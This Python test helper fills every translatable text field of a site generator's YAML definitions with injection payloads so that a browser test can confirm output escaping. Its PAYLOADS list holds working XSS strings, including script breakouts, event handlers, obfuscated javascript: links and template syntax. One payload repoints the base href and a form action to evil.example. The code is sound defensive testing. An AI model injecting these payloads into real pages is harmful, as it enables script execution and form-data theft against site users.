"""Hostile content in every text field of every kind, found by walking the JSON Schemas (``x-translatable``).

A new text field in a schema is covered without touching the tests: the walker fills every translatable string it
finds in a definition or translation file, adds every optional text field the file lacks (kept when the file still
fits its schema), and :func:`uncovered` lists the schema's text fields that no file gave a value — a test fails
on them, naming the field.

Every payload closes its context (HTML text and attributes, ``<title>``, ``<script>``, ``<textarea>``, CDATA,
Markdown attribute lists, link destinations, template syntax) and then calls ``hit(n)``, ``n`` naming the field
it came from; the browser test records the calls.
"""

from __future__ import annotations

import datetime
import itertools
from pathlib import Path

import jsonschema
import yaml

from generator.catalog.schema import KINDS, _resolve, is_translatable, source_schema, translation_schema
from generator.org.overrides import override_schema, override_translation_schema

#: Context-closing payloads; "{n}" is the field's number, so a hit names the field.
PAYLOADS = [
    "</title></textarea></script></style><script>hit({n})</script>",
    '"><img src=x onerror=hit({n})>',
    "'><svg onload=hit({n})>",
    "<details open ontoggle=hit({n})>x</details>",
    "]]><script>hit({n})</script>",
    "{{: onclick=hit({n}) }}",
    "[a](javascript:hit({n}))",
    "[b](jav&#x09;ascript:hit({n}))",
    "[c](data:text/html,<script>hit({n})</script>)",
    "<iframe src=javascript:hit({n})></iframe>",
    "{{{{ 7*7 }}}} {{% if x %}}{{{{ x[0] }}}}",
    "`</code><script>hit({n})</script>`",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "\u2028</script><script>hit({n})</script>",
    '<a href="jav&#x09;ascript:hit({n})">t</a>',
    "<base href=//evil.example/><form action=//evil.example><button>go</button></form>",
    "<textarea><script>hit({n})</script>",
]
#: A few of them on one line, for the fields that must stay one line (names, ids of nothing, titles).
ONE_LINE = [p for p in PAYLOADS if "\u2028" not in p]

MARK = "Zq"  #: starts every hostile text: pages that show one contain "Zq<number>"

_counter = itertools.count(1)


def payload(one_line: bool = False) -> str:
    """The next field's text: its mark, then three payloads (every fourth field all of them), numbered by the field."""
    n = next(_counter)
    pool = ONE_LINE if one_line else PAYLOADS
    chosen = pool if n % 4 == 0 else [pool[(n + i) % len(pool)] for i in range(3)]
    return f"{MARK}{n} " + " ".join(p.format(n=n) for p in chosen)


def kind_of(rel: str) -> tuple[str, bool] | None:
    """(kind, is_override) of a project file, or None for files that are not definitions."""
    parts = rel.split("/")
    name = parts[-1].split(".")[0]
    if parts[0] == "quizzes":
        return "quiz", False
    if parts[0] != "catalog":
        return None
    if parts[1] == "overrides":
        return {"features": "feature", "roles": "role"}[parts[2]], True
    folder = {"roles": "role", "features": "feature", "faqs": "faqs", "scenarios": "scenario", "messages": "message",
              "surveys": "survey"}
    if parts[1] in folder:
        return folder[parts[1]], False
    return (name, False) if name in KINDS else None


def schema_for(kind: str, override: bool, translation: bool) -> dict:
    if override:
        return override_translation_schema(kind) if translation else override_schema(kind)
    return translation_schema(kind) if translation else source_schema(kind)


def fill_file(path: Path, rel: str, filled: set[str]) -> None:
    """Every text field of one definition or translation file made hostile; ``filled`` collects their schema paths."""
    found = kind_of(rel)
    if not found:
        return
    kind, override = found
    translation = path.name.count(".") == 2
    schema = schema_for(kind, override, translation)
    data = yaml.safe_load(path.read_text("utf-8"))
    # A translation schema holds text fields only (and ids): every string in it is one.
    is_text = (lambda node, root: _resolve(node, root).get("type") == "string") if translation else is_translatable
    # An override replaces whole keys of a kit item: only what it says is filled, nothing is added.
    _walk(data, schema, schema, f"{kind}:", filled, add=not translation and not override, is_text=is_text)
    if not translation:
        _keep_valid_additions(data, schema)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), "utf-8")


#: Translatable fields that name something rather than say it: ids, and a picture's file (per language).
NOT_TEXT = {"id", "src"}


def _walk(node, schema: dict, root: dict, where: str, filled: set[str], add: bool, siblings: list | None = None,
          is_text=is_translatable):
    """Fill the text fields of ``node``; with ``add``, also the optional ones it lacks (in a list, only in its first
    item, and only when no item has them: what another item has belongs to its kind of item)."""
    schema = _resolve(schema, root)
    if isinstance(node, dict):
        props = schema.get("properties", {})
        for key in list(node):
            sub = props.get(key) or (schema.get("additionalProperties") if isinstance(schema.get("additionalProperties"), dict) else None)
            if sub is None:
                continue
            name = key if key in props else "*"
            if isinstance(node[key], str) and is_text(sub, root) and key not in NOT_TEXT:
                node[key] = payload()
                filled.add(f"{where}{name}")
            else:
                _walk(node[key], sub, root, f"{where}{name}.", filled, add, is_text=is_text)
        if add:
            for key, sub in props.items():
                if key not in node and not (siblings and any(key in s for s in siblings if isinstance(s, dict))):
                    made = _make(sub, root, f"{where}{key}", filled)
                    if made is not None:
                        node[key] = made
                        node.setdefault("__added__", []).append(key)
    elif isinstance(node, list) and "items" in schema:
        for i, item in enumerate(node):
            if isinstance(item, str) and is_text(schema["items"], root):
                node[i] = payload()
                filled.add(f"{where}[]")
            else:
                _walk(item, schema["items"], root, f"{where}[].", filled, add and i == 0, node, is_text)


def _make(schema: dict, root: dict, where: str, filled: set[str]):
    """A value for an absent optional field: a hostile text, or a list or mapping of them when that is all it needs."""
    schema = _resolve(schema, root)
    if where.rsplit(".", 1)[-1] in NOT_TEXT:
        return None  # a file name, not a text: a picture is added only by a writer who has the file
    if is_translatable(schema, root) and schema.get("type", "string") == "string":
        filled.add(where)
        return payload()
    if schema.get("type") == "array" and "items" in schema:
        item = _make(schema["items"], root, f"{where}[]", filled)
        return [item] if item is not None else None
    if schema.get("type") == "object" and schema.get("properties"):
        out = {}
        for key in schema.get("required", []):
            sub = schema["properties"].get(key)
            value = _make(sub, root, f"{where}.{key}", filled) if sub else None
            if value is None:
                return None
            out[key] = value
        for key, sub in schema["properties"].items():  # and its optional text fields
            if key not in out and is_translatable(sub, root):
                out[key] = _make(sub, root, f"{where}.{key}", filled)
        return out or None
    return None


def _keep_valid_additions(data: dict, schema: dict) -> None:
    """Drop the added fields the file's schema does not accept (another question type's keys, say)."""
    validator = jsonschema.Draft202012Validator(schema)

    def nodes(node):
        if isinstance(node, dict):
            yield node
            for value in node.values():
                yield from nodes(value)
        elif isinstance(node, list):
            for value in node:
                yield from nodes(value)

    added = [(node, key) for node in list(nodes(data)) for key in node.pop("__added__", [])]
    errors = lambda: sum(1 for _ in validator.iter_errors(_jsonable(data)))  # noqa: E731
    current = errors()
    for node, key in added:
        if current == 0:
            break
        value = node.pop(key)
        after = errors()
        if after < current:
            current = after
        else:
            node[key] = value


def _jsonable(value):
    if isinstance(value, dict):
        return {k: _jsonable(v) for k, v in value.items() if k != "__added__"}
    if isinstance(value, list):
        return [_jsonable(v) for v in value]
    if isinstance(value, (datetime.date, datetime.datetime)):
        return value.isoformat()
    return value


def text_fields(kind: str, override: bool = False) -> set[str]:
    """Every text field of a kind's schema, as the walker names them (``feature:steps[].desktop``)."""
    schema = schema_for(kind, override, False)
    out: set[str] = set()

    def visit(node: dict, where: str, depth: int) -> None:
        node = _resolve(node, schema)
        if depth > 8:
            return
        if is_translatable(node, schema) and where:
            if where.rsplit(".", 1)[-1].rsplit(":", 1)[-1] not in NOT_TEXT:
                out.add(where)
            return
        if node.get("type") == "array" and "items" in node:
            visit(node["items"], where + "[]", depth + 1)
        for key, sub in node.get("properties", {}).items():
            visit(sub, f"{where}{'.' if not where.endswith(':') else ''}{key}", depth + 1)
        if isinstance(node.get("additionalProperties"), dict):
            visit(node["additionalProperties"], f"{where}.*", depth + 1)

    visit(schema, f"{kind}:", 0)
    return out


def _normal(path: str) -> str:
    return path.replace(".[]", "[]").replace(":.", ":")


def uncovered(filled: set[str], kinds=KINDS) -> list[str]:
    """The schema text fields of ``kinds`` that no file of the project gave a hostile value."""
    have = {_normal(p) for p in filled}
    return sorted(f for kind in kinds for f in text_fields(kind) if _normal(f) not in have)


def make_hostile(root: Path) -> set[str]:
    """Every definition and translation file under ``root`` made hostile; returns the schema paths filled."""
    filled: set[str] = set()
    for path in sorted(root.rglob("*.yaml")):
        rel = path.relative_to(root).as_posix()
        if rel.startswith(("catalog/", "quizzes/")):
            fill_file(path, rel, filled)
    return filled


def hostile_page(title_n: int) -> str:
    """A hand-written page: hostile front matter title, raw HTML, attribute lists and script links in its Markdown."""
    lines = ["---", f"title: {yaml.safe_dump(payload(one_line=True), allow_unicode=True, width=10_000).strip()}", "---", "",
             f"# {MARK}{title_n} page", ""]
    for p in PAYLOADS:
        if "[b](" not in p:  # a link MkDocs cannot read fails the strict build: cutover check names it (test_broken_input)
            lines += [p.format(n=next(_counter)), ""]
    lines += ["A paragraph.", "{: onclick=\"hit(%d)\" }" % next(_counter), "", "[split](java", f"script:hit({next(_counter)}))", ""]
    return "\n".join(lines) + "\n"
